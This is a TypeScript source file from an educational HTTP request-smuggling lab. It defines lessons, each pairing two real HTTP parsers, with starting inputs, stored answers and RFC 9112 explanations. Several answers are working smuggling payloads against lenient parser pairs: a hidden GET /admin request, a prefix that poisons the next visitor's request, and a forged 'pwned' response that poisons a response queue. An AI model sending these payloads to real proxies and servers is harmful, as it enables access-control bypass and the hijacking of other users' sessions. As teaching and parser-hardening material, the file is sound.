// The lab's lessons: each names a pair, a starting input that does not meet its goal, a goal the
// chain checks, and a stored answer that meets it (tests/unit/lab-lessons.test.ts solves every
// lesson with its answer, and the Playwright suite types each answer). Only lessons whose goal
// the real parsers let someone reach are here; where the classic attack fails on these parsers,
// the lesson's goal is to see why: which parser refuses the trick, and at which byte.

import { analyze } from '../analysis.ts';
import { latin1Bytes } from '../bytes.ts';
import type { ErrorInfo } from '../types.ts';
import { runChain, runResponses, type ChainResult, type Direction, type Forwarding } from './chain.ts';
import type { LabConfig } from './configs.ts';

/** What a lesson asks for. */
export type GoalKind =
  /** The back end reads a whole request whose first byte the front end forwarded inside another. */
  | 'hidden-request'
  /** The victim's next request is read behind what the attacker left. */
  | 'poison-victim'
  /** The front end forwards a request with both Content-Length and Transfer-Encoding, and the back end frames it alike. */
  | 'both-framings-agree'
  /** The front end forwards a request and the back end refuses it, for the lesson's reason (no pair desyncs on the trick). */
  | 'back-refuses'
  /** Responses: the front end reads a whole response the back end did not forward as one, and answers the next client's request with it. */
  | 'poison-response-queue';

export interface Lesson {
  id: string;
  title: string;
  /** The rule broken or relied on, with its RFC section. */
  rule: string;
  /** The RFC section's link. */
  rfcUrl: string;
  /** What happens and why, in a few sentences. */
  explanation: string;
  front: string;
  back: string;
  forwarding: Forwarding;
  /** What the input is: requests a client sends (the default), or responses an origin sends back through the pair (the back end reads them first). */
  direction?: Direction;
  goal: GoalKind;
  /** The goal in words. */
  goalText: string;
  /** The input the lesson starts with (does not meet the goal). */
  start: string;
  /** A stored answer (meets the goal). */
  answer: string;
  /** Said once the goal is met: why it works. */
  afterword: string;
  /**
   * For a 'back-refuses' lesson, what the back end's refusal (`code: reason`) names: the goal is
   * the back end refusing the lesson's trick, not any input it happens to refuse.
   */
  backRefusal?: RegExp;
}

const SMUGGLED = 'GET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n';
const POST = 'POST /search HTTP/1.1\r\nHost: shop.example\r\n';
/** An empty chunked body (its last chunk and the end of its trailer section), then the hidden request: 48 bytes. */
const CHUNKS_THEN_SMUGGLED = '0\r\n\r\n' + SMUGGLED;
/** The unfinished request of the poisoning lesson: the victim's request line becomes the value of X. */
const PREFIX = 'GET /admin HTTP/1.1\r\nX:';
/** The response lesson's body: an empty chunked body, then a response of its own (54 bytes). */
const CHUNKS_THEN_RESPONSE = '0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\npwned';
const RFC9112 = 'https://www.rfc-editor.org/rfc/rfc9112';
const RFC9110 = 'https://www.rfc-editor.org/rfc/rfc9110';
/** A chunked body of one 5-byte chunk whose size line is `size`, then the last chunk. */
const chunkedHello = (size: string): string => `Transfer-Encoding: chunked\r\n\r\n${size}\r\nhello\r\n0\r\n\r\n`;

const GOAL_TEXT: Record<GoalKind, string> = {
  'hidden-request': 'Make the back end read a whole second request that the front end did not forward as one.',
  'poison-victim': 'Leave a prefix behind so that the back end reads the next client’s request (GET /account) as something else.',
  'both-framings-agree':
    'Send a request with both Content-Length and Transfer-Encoding that the front end forwards; watch how the back end frames it.',
  'back-refuses': 'Make the front end forward a request that the back end refuses, and find which parser refuses it and at which byte.',
  'poison-response-queue':
    'Make the front end read a whole second response that the back end did not forward as one, so that the next client’s request is answered with it.',
};

function lesson(l: Omit<Lesson, 'goalText'>): Lesson {
  return { ...l, goalText: GOAL_TEXT[l.goal] };
}

export const LESSONS: readonly Lesson[] = [
  lesson({
    id: 'cl-te',
    title: 'CL.TE: Content-Length in front, Transfer-Encoding behind',
    rule: 'RFC 9112 6.3: a message with both Transfer-Encoding and Content-Length is framed by Transfer-Encoding; a server may reject it, and must close the connection after it.',
    rfcUrl: `${RFC9112}#section-6.3`,
    explanation:
      'The 2019 attack: the front end frames the body by Content-Length and forwards the chunked bytes after it, the back end frames it by chunked, so the bytes after the empty last chunk become the next request. It needs a front end that lets Content-Length win. None of these parsers does: llhttp with --insecure-http-parser, httparse, picohttpparser and Go all let Transfer-Encoding win, and strict httpspan and llhttp refuse the message.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'both-framings-agree',
    start: POST + 'Content-Length: 5\r\n\r\nhello',
    answer: POST + 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    afterword:
      'Both ends frame the body by chunked, as RFC 9112 says, so the hidden request is forwarded as a request of its own and both sides agree: no desync. The attack needs a parser that prefers Content-Length, which these are not.',
  }),
  lesson({
    id: 'te-cl',
    title: 'TE.CL: Transfer-Encoding in front, Content-Length behind',
    rule: 'RFC 9112 6.3: Transfer-Encoding overrides Content-Length; a sender must not send both.',
    rfcUrl: `${RFC9112}#section-6.3`,
    explanation:
      'The mirror image: the front end decodes chunked and forwards it all, the back end reads only Content-Length bytes and takes the rest of the chunked body as the next request. Here too the back end would have to let Content-Length win; httparse (hyper’s rules) and picohttpparser’s caller both let chunked win.',
    front: 'httparse',
    back: 'picohttpparser',
    forwarding: 'raw',
    goal: 'both-framings-agree',
    start: POST + 'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    answer: POST + `Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${SMUGGLED.length.toString(16)}\r\n` + SMUGGLED + '\r\n0\r\n\r\n',
    afterword:
      'Both read the chunk of 0x2c bytes as body: the request inside it never becomes one. Content-Length is ignored by both, so the two framings never split.',
  }),
  lesson({
    id: 'http10-te',
    title: 'HTTP/1.0 with Transfer-Encoding',
    rule: 'RFC 9112 6.1: a server that receives a request message with a transfer coding whose version is HTTP/1.0 must treat it as faulty (HTTP/1.0 has no Transfer-Encoding) and close the connection after it.',
    rfcUrl: `${RFC9112}#section-6.1`,
    explanation:
      'Go’s server ignores Transfer-Encoding in an HTTP/1.0 request and frames the body by Content-Length. llhttp, even under --insecure-http-parser, decodes the chunked body, and lenient, it lets Transfer-Encoding win over Content-Length. A keep-alive HTTP/1.0 request carrying both is one request to Go and two to Node.',
    front: 'go-server',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: `POST /search HTTP/1.0\r\nHost: shop.example\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: `POST /search HTTP/1.0\r\nHost: shop.example\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'Go forwards the 48 bytes after the head as the body of one request; Node’s llhttp reads them as an empty chunked body and then GET /admin, a request the proxy never saw. Had Go’s server refused Transfer-Encoding in HTTP/1.0, as RFC 9112 asks, nothing would have reached Node.',
  }),
  lesson({
    id: 'te-space-before-colon',
    title: 'TE.TE: Transfer-Encoding hidden by a space before the colon',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400, a proxy must remove the whitespace before forwarding.',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'Both ends understand Transfer-Encoding; the trick is to make only one of them see it. Go’s http.ReadRequest keeps "Transfer-Encoding " (with the space) as a field of another name and frames the body by Content-Length; llhttp under --insecure-http-parser drops the space and decodes chunked. (Go’s own http.Server refuses the name: the front end here is a proxy loop built on ReadRequest.)',
    front: 'go',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'With the space, Go no longer sees Transfer-Encoding and forwards 48 bytes of body; llhttp still does, ends the body at the empty last chunk and reads GET /admin as a request of its own.',
  }),
  lesson({
    id: 'ignored-field-line',
    title: 'A field line the front end ignores',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400 (RFC 9110 5.1: a field name is a token).',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'httparse can be told to skip field lines it finds invalid (ParserConfig::ignore_invalid_headers_in_requests) rather than refuse the request. A proxy on hyper with that option drops "Transfer-Encoding : chunked" from its view and frames by Content-Length; a back end on Node with --insecure-http-parser keeps the line and decodes chunked.',
    front: 'httparse-lenient',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nX-Note : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'httparse skipped the line, so the proxy forwarded 48 bytes of body; llhttp read the same line as Transfer-Encoding, ended the body at the empty last chunk and served GET /admin. Ignoring an invalid line is as dangerous as misreading it: the next parser may read it.',
  }),
  lesson({
    id: 'cl-space-before-colon',
    title: 'Content-Length with a space before the colon',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400.',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'The same flaw the other way round: llhttp under --insecure-http-parser (and httpspan with its spaceBeforeColon option) reads "Content-Length : 43" as Content-Length; Go’s ReadRequest sees a field named "Content-Length " and a request without a body, so the body is the next request to Go.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    answer: POST + `Content-Length : ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    afterword:
      'Node forwards one request with a 43-byte body; Go reads a POST without a body and then the body as GET /admin. Behind Go’s http.Server the request is refused instead (400: invalid header name).',
  }),
  lesson({
    id: 'poison-victim',
    title: 'Poison the next visitor’s request',
    rule: 'RFC 9112 9.3: a server reads requests on a persistent connection one after another; whatever bytes remain after one request are the start of the next.',
    rfcUrl: `${RFC9112}#section-9.3`,
    explanation:
      'A hidden request that is complete only gets the attacker a response. Leave it unfinished instead: the back end waits for the rest of its head, and the next request the front end forwards on that connection, another client’s, completes it. Its Cookie then rides on the attacker’s request line.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'poison-victim',
    start: POST + `Content-Length : ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    answer: POST + `Content-Length : ${PREFIX.length}\r\n\r\n` + PREFIX,
    afterword:
      'Go reads "GET /admin HTTP/1.1", then a field line X: holding the victim’s request line, then the victim’s Host and Cookie: the victim’s session asks for /admin.',
  }),
  lesson({
    id: 'te-obfuscated',
    title: 'TE.TE: an obfuscated Transfer-Encoding value',
    rule: 'RFC 9112 6.3: if a request has Transfer-Encoding and chunked is not its final coding, its length cannot be determined reliably; the server must answer 400 and close the connection (RFC 9112 6.1: a coding the server does not understand gets 501).',
    rfcUrl: `${RFC9112}#section-6.3`,
    explanation:
      'TE.TE hides Transfer-Encoding from one of two parsers with a value it does not recognise (xchunked, "chunked", a vertical tab, a trailing comma), hoping that one falls back to Content-Length while the other still decodes chunked. RFC 9112 leaves no fallback: a request whose last coding is not chunked has no reliable length. Go’s server answers 501 to xchunked, hyper (httparse) and strict httpspan answer 400; only llhttp under --insecure-http-parser takes it, and it does not fall back to Content-Length either: it reads the body until the connection closes.',
    front: 'llhttp-insecure',
    back: 'go-server',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + 'Transfer-Encoding: chunked\r\n\r\n' + CHUNKS_THEN_SMUGGLED,
    answer: POST + 'Transfer-Encoding: xchunked\r\n\r\n' + CHUNKS_THEN_SMUGGLED,
    afterword:
      'llhttp insecure cannot frame xchunked, so it takes everything to the end of the input as one body and forwards it; Go’s server refuses the coding at upstream byte 74, where the head ends, before it reads any body. No pair here splits the stream: every parser refuses xchunked or, like llhttp insecure, never reads it as chunked.',
    backRefusal: /unsupported transfer encoding/,
  }),
  lesson({
    id: 'duplicate-content-length',
    title: 'A duplicate Content-Length',
    rule: 'RFC 9110 8.6: a Content-Length that repeats one decimal value may be refused as invalid or replaced by that one value; RFC 9112 6.3: Content-Length values that differ make the framing invalid, an unrecoverable error.',
    rfcUrl: `${RFC9110}#section-8.6`,
    explanation:
      'Two Content-Length lines with different values are CL.CL: a front end that takes the first and a back end that takes the last split the body. Every parser here refuses different values. The same value twice is left to the recipient: Go’s server, hyper (httparse) and picohttpparser’s caller take the one value, Node’s llhttp refuses it even under --insecure-http-parser, strict httpspan refuses it (its duplicateContentLength option takes equal values). Whoever accepts reads the same length, so nothing splits.',
    front: 'go-server',
    back: 'llhttp',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + 'Content-Length: 5\r\n\r\nhello',
    answer: POST + 'Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello',
    afterword:
      'Go’s server reads one request with a 5-byte body and forwards it; llhttp refuses the second Content-Length line at upstream byte 78. Give the two lines different values and Go’s server refuses them itself, so nothing is forwarded.',
    backRefusal: /HPE_UNEXPECTED_CONTENT_LENGTH/,
  }),
  lesson({
    id: 'obs-fold',
    title: 'Obsolete line folding',
    rule: 'RFC 9112 5.2: a server that receives obs-fold in a request must either reject it with 400 or replace each obs-fold with spaces before interpreting the value or forwarding the message.',
    rfcUrl: `${RFC9112}#section-5.2`,
    explanation:
      'A field line that starts with a space or a tab continues the value of the line before (obs-fold). A parser that unfolds and one that reads the continuation as a line of its own see different fields: a folded Transfer-Encoding is the classic use. Go’s server unfolds, as RFC 9112 allows; Node’s llhttp by default, hyper (httparse) and strict httpspan refuse a folded line. Forwarded raw, the fold reaches the back end as it came.',
    front: 'go-server',
    back: 'llhttp',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + 'X-Note: a b\r\nContent-Length: 5\r\n\r\nhello',
    answer: POST + 'X-Note: a\r\n b\r\nContent-Length: 5\r\n\r\nhello',
    afterword:
      'Go’s server reads X-Note as "a b" and forwards the request as it came; llhttp refuses the space that starts the folded line, at upstream byte 54. A proxy that unfolds before forwarding, as RFC 9112 asks, would have sent llhttp a plain line.',
    backRefusal: /HPE_INVALID_HEADER_TOKEN: Unexpected whitespace/,
  }),
  lesson({
    id: 'bare-lf',
    title: 'A bare LF line ending',
    rule: 'RFC 9112 2.2: the line terminator of the start line and the field lines is CRLF, though a recipient may recognise a single LF as one and ignore a preceding CR.',
    rfcUrl: `${RFC9112}#section-2.2`,
    explanation:
      'Where one parser ends a line at a lone LF and another only at CRLF, they see different field lines, and a header hidden on one side is a smuggling primitive. RFC 9112 lets a recipient accept a lone LF. hyper (httparse), picohttpparser, Go and llhttp under --insecure-http-parser do; llhttp by default and strict httpspan refuse it. All that accept end the line at the LF, so they read the same fields.',
    front: 'httparse',
    back: 'llhttp',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + 'Content-Length: 5\r\n\r\nhello',
    answer: POST + 'Content-Length: 5\n\r\nhello',
    afterword:
      'httparse ends the Content-Length line at the LF and forwards one request with a 5-byte body; llhttp wants a CR before it and refuses at upstream byte 60, the LF.',
    // llhttp names the byte it wanted where the lone LF stands: a CR after a value, CRLF after the version, a field name after a line.
    backRefusal: /HPE_CR_EXPECTED|HPE_INVALID_VERSION|HPE_INVALID_HEADER_TOKEN/,
  }),
  lesson({
    id: 'chunk-size-0x',
    title: 'A chunk size with a 0x prefix',
    rule: 'RFC 9112 7.1: chunk-size = 1*HEXDIG, hexadecimal digits and nothing else.',
    rfcUrl: `${RFC9112}#section-7.1`,
    explanation:
      'A parser that reads chunk sizes with a C library call such as strtol may take a 0x prefix and read 0x5 as 5; one that stops at the x reads 0, the last chunk, and the bytes after it are left for the next request. picohttpparser stops at the x, takes the rest of the line as an extension, ends the body at that chunk of size 0 and skips the lines after it, up to an empty line, as the trailer section. Every other parser here refuses the x.',
    front: 'picohttpparser',
    back: 'llhttp',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + chunkedHello('5'),
    answer: POST + chunkedHello('0x5'),
    afterword:
      'picohttpparser forwards the request with an empty body (hello and 0 went by as trailer lines); llhttp refuses the x at upstream byte 74. With a back end that read 0x5 as 5, the two would have split the stream.',
    backRefusal: /HPE_INVALID_CHUNK_SIZE/,
  }),
  lesson({
    id: 'chunk-size-digits',
    title: 'A chunk size of 17 hex digits',
    rule: 'RFC 9112 7.1: recipients must anticipate large hexadecimal numerals and prevent parsing errors due to integer conversion overflows.',
    rfcUrl: `${RFC9112}#section-7.1`,
    explanation:
      'Sixteen hex digits fill 64 bits. A parser that shifts in a seventeenth without checking overflows and reads another size than one that checks: a desync. Leading zeros make a long size that is small: 00000000000000005 is 5. llhttp checks the value, not the digits, and reads 5; Go, hyper (httparse) and strict httpspan refuse more than 16 digits. picohttpparser counts the digits its size_t holds, 8 in this 32-bit WebAssembly build (16 in a 64-bit one), so it refuses 9 and more.',
    front: 'llhttp',
    back: 'go-server',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + chunkedHello('0000000000000005'),
    answer: POST + chunkedHello('00000000000000005'),
    afterword:
      'llhttp reads a 5-byte chunk and forwards the request; Go’s server counts the digits and refuses the size line, at upstream byte 92 where the line ends. No parser here reads 17 digits as a different number, so the refusal is all there is.',
    backRefusal: /chunk length too large/,
  }),
  lesson({
    id: 'chunk-extension',
    title: 'A chunk extension that is not a token',
    rule: 'RFC 9112 7.1.1: chunk-ext = *( BWS ";" BWS chunk-ext-name [ BWS "=" BWS chunk-ext-val ] ), a name is a token and a value a token or a quoted-string; a recipient ignores extensions it does not understand.',
    rfcUrl: `${RFC9112}#section-7.1.1`,
    explanation:
      'Extensions follow the chunk size on its line, and most parsers skip them to the line’s end. Where one parser skips and another checks, they can disagree on where the size line ends: a quoted CRLF or a lone LF inside an extension are the known tricks. Here the value holds an @, which is not a token character: Go, hyper (httparse) and picohttpparser skip it, llhttp (even under --insecure-http-parser) and strict httpspan check extensions and refuse it.',
    front: 'go-server',
    back: 'llhttp',
    forwarding: 'raw',
    goal: 'back-refuses',
    start: POST + chunkedHello('5;note=ab'),
    answer: POST + chunkedHello('5;note=a@b'),
    afterword:
      'Go’s server skips the extension and forwards the request with its 5-byte body; llhttp refuses the value and stops one byte after the @, at upstream byte 82. Both end the size line at the same CRLF, so a refusal is the worst that happens.',
    backRefusal: /chunk extension/i,
  }),
  lesson({
    id: 'response-http10-te',
    title: 'A response-side desync: an HTTP/1.0 response with Transfer-Encoding',
    rule: 'RFC 9112 6.1: a client or server that receives an HTTP/1.0 message containing Transfer-Encoding must treat its framing as faulty, even if a Content-Length is present, and close the connection after it.',
    rfcUrl: `${RFC9112}#section-6.1`,
    explanation:
      'The HTTP/1.0 lesson the other way round. An origin answers in HTTP/1.0 and keeps the connection alive. Go’s http.ReadResponse ignores Transfer-Encoding in HTTP/1.0 and frames the body by Content-Length; Node’s llhttp under --insecure-http-parser decodes chunked and lets it win over Content-Length. hyper’s client refuses Transfer-Encoding in an HTTP/1.0 response, and Node by default refuses Content-Length beside it, as RFC 9112 asks. The back end, next to the origin, is a Go proxy that splices what it read on to the front end (raw forwarding); the front end is Node under --insecure-http-parser, answering the clients.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    direction: 'response',
    goal: 'poison-response-queue',
    start: `HTTP/1.0 200 OK\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_RESPONSE.length}\r\n\r\n` + CHUNKS_THEN_RESPONSE,
    answer: `HTTP/1.0 200 OK\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_RESPONSE.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_RESPONSE,
    afterword:
      'Go forwards one response with a 48-byte body; llhttp reads an empty chunked body and then "pwned", a response Go never forwarded as one, which answers the next request on that connection. Tried outside the lab too: Go 1.26’s ReadResponse reads the one 48-byte body, and Node 20’s client with insecureHTTPParser hands "pwned" to the next request when it arrives after that request is sent.',
  }),
  lesson({
    id: 'response-te-space',
    title: 'A response-side desync: Transfer-Encoding hidden from the proxy',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a proxy must remove it from a response before forwarding, a client must not accept it (RFC 9112 6.3: Transfer-Encoding overrides Content-Length).',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'Responses are framed by the same rules as requests, and a proxy that reads an origin’s response shorter or longer than the next hop does leaves bytes on a reused connection: the next hop reads them as the answer to the next request it sends, whoever sent it (response queue poisoning). The input here is what an origin sends (an application that lets a user set a response header is enough). Responses meet the pair from the back: the back end, next to the origin, reads them with Go’s http.ReadResponse, which keeps "Transfer-Encoding " (with the space) as a field of another name and frames by Content-Length; it splices the bytes on (raw forwarding: Go’s own ReverseProxy re-serializes instead, which ends the desync). The front end, which answers the clients, is Node with --insecure-http-parser reading responses (llhttp insecure), which drops the space and decodes chunked.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    direction: 'response',
    goal: 'poison-response-queue',
    start: 'HTTP/1.1 200 OK\r\n' + `Content-Length: ${CHUNKS_THEN_RESPONSE.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_RESPONSE,
    answer: 'HTTP/1.1 200 OK\r\n' + `Content-Length: ${CHUNKS_THEN_RESPONSE.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_RESPONSE,
    afterword:
      'Go reads one response with a 48-byte body and forwards it; llhttp reads an empty chunked body, then a second response ("pwned") that Go never forwarded as one. The next request the front end sends on that connection, another client’s, is answered with it, and that client’s own response waits for the one after. (Node’s client drops a response that comes while no request waits, so in practice the origin sends the second response late, once the next request is on the connection; tried with Node 20 and insecureHTTPParser.) Without the space both let chunked win and read the same two responses.',
  }),
];

/** A lesson's pair on `bytes`: requests through front then back, or responses through back then front. */
export function runLesson(lesson: Pick<Lesson, 'direction' | 'forwarding'>, bytes: Uint8Array, front: LabConfig, back: LabConfig): ChainResult {
  return lesson.direction === 'response' ? runResponses(bytes, front, back, lesson.forwarding) : runChain(bytes, front, back, lesson.forwarding);
}

/** Whether a chain result meets a lesson's goal. */
export function goalMet(lesson: Pick<Lesson, 'goal' | 'backRefusal'>, result: ChainResult): boolean {
  switch (lesson.goal) {
    case 'hidden-request':
      return result.direction === 'request' && result.verdict === 'desync' && result.desync !== null && result.desync.hidden.some((r) => r.complete);
    case 'poison-response-queue':
      return (
        result.direction === 'response' &&
        result.verdict === 'desync' &&
        result.desync !== null &&
        result.desync.hidden.some((r) => r.complete) &&
        result.desync.victim.outcome === 'poisoned'
      );
    case 'poison-victim':
      return result.verdict === 'desync' && result.desync?.victim.outcome === 'poisoned';
    case 'both-framings-agree':
      return (
        result.verdict === 'agree' &&
        result.frontRequests.some((f) => {
          const names = f.message.headers.map(([n]) => n.toLowerCase());
          return names.includes('content-length') && names.includes('transfer-encoding');
        })
      );
    case 'back-refuses': {
      // The refusal must fall inside a request the front end forwarded, and be the lesson's.
      const error = result.back.error;
      return (
        result.verdict === 'back-rejects' &&
        error !== null &&
        result.frontRequests.some((f) => f.upstream.start <= error.offset && error.offset < f.upstream.end) &&
        (lesson.backRefusal?.test(`${error.code}: ${error.reason}`) ?? true)
      );
    }
  }
}

/** Why strict httpspan refuses `bytes` (requests, or responses to GET) with the error and its byte, or null when it accepts them. */
export function strictRefusal(bytes: Uint8Array, direction: Direction = 'request'): ErrorInfo | null {
  return analyze(bytes, { mode: direction, requestMethod: 'GET', lenient: [] }).error;
}

export function lessonById(id: string): Lesson | undefined {
  return LESSONS.find((l) => l.id === id);
}

/** A lesson's text input as bytes (the lessons are written in Latin-1). */
export const lessonBytes = (text: string): Uint8Array => latin1Bytes(text);
